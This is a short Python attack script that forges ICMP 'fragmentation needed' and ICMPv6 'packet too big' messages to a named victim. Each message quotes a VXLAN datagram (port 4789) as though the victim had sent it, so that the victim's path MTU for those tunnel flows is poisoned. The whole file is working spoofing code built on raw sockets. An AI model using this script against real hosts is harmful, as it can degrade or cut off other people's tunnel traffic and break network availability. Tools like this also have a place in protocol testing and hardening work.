"""Forges ICMP's "fragmentation needed" or ICMPv6's "packet too big" about tunnel datagrams.

forge_too_big.py VICTIM REMOTE MTU PORT...: as if VICTIM had sent from each source port to REMOTE's port 4789.
"""

import socket
import struct
import sys


def checksum(octets):
    octets += b"\0" * (len(octets) % 2)
    total = sum(struct.unpack("!%dH" % (len(octets) // 2), octets))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


victim, remote, mtu = sys.argv[1], sys.argv[2], int(sys.argv[3])
family = socket.AF_INET6 if ":" in victim else socket.AF_INET
addresses = socket.inet_pton(family, victim) + socket.inet_pton(family, remote)
for port in map(int, sys.argv[4:]):
    quoted = struct.pack("!HHHH", port, 4789, 1400, 0) + b"\x08" + b"\0" * 7
    if family == socket.AF_INET6:
        quoted = struct.pack("!IHBB", 0x60000000, 1400, 17, 64) + addresses + quoted
        message = struct.pack("!BBHI", 2, 0, 0, mtu) + quoted
        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
    else:
        quoted = struct.pack("!BBHHHBBH", 0x45, 0, 1420, 1, 0x4000, 64, 17, 0) + addresses + quoted
        message = struct.pack("!BBHHH", 3, 4, 0, 0, mtu) + quoted
        message = message[:2] + struct.pack("!H", checksum(message)) + message[4:]
        raw = socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_ICMP)
    raw.sendto(message, (victim, 0))
